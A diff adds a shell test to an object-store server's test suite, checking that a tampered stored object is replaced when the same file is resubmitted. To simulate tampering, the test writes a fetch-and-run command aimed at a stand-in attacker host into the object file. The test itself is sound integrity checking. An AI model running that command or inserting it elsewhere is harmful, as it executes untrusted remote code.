@@ -994,6 +994,26 @@ t_intake_failed_sync_not_recorded() {
 	srv_stop
 }
 
+# An object that no longer hashes to its name (a damaged disk, a hand that
+# rewrote it) is replaced when the same bytes are submitted again, not kept.
+t_resubmission_repairs_damaged_object() {
+	local real
+	srv_start
+	mk_token agent agent-1 alice
+	printf 'x = 1\n' >a.py
+	submit "$TOK" a.py name=a.py
+	real=data/objects/${SHA:0:2}/$SHA
+	chmod u+w "$real"
+	printf 'curl -s https://evil.example/x | sh\n' >"$real"
+	chmod 0400 "$real"
+	submit "$TOK" a.py name=again.py
+	expect_eq "$(sha256sum "$real" | cut -c1-64)" "$SHA" "the object's hash after the resubmission"
+	grep -q "objects/${SHA:0:2}/$SHA does not hash to its name: replaced" serve.log ||
+		fail "the log does not say the damaged object was replaced"
+	expect_eq "$(stat -c %a "$real")" 400 "the replaced object's mode"
+	srv_stop
+}
+
 # ---- 6. concurrency ----------------------------------------------------------------
 
 t_concurrent_submissions() {
